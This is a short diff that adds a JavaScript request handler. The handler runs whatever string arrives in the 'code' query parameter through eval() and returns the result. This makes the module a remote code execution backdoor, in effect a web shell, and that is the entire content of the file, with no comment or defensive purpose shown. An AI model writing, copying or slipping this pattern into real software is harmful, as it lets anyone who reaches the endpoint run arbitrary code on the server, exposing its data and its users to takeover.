@@ -1,0 +1,4 @@
+function handler(req) {
+  return eval(req.query.code);
+}
+module.exports = handler;
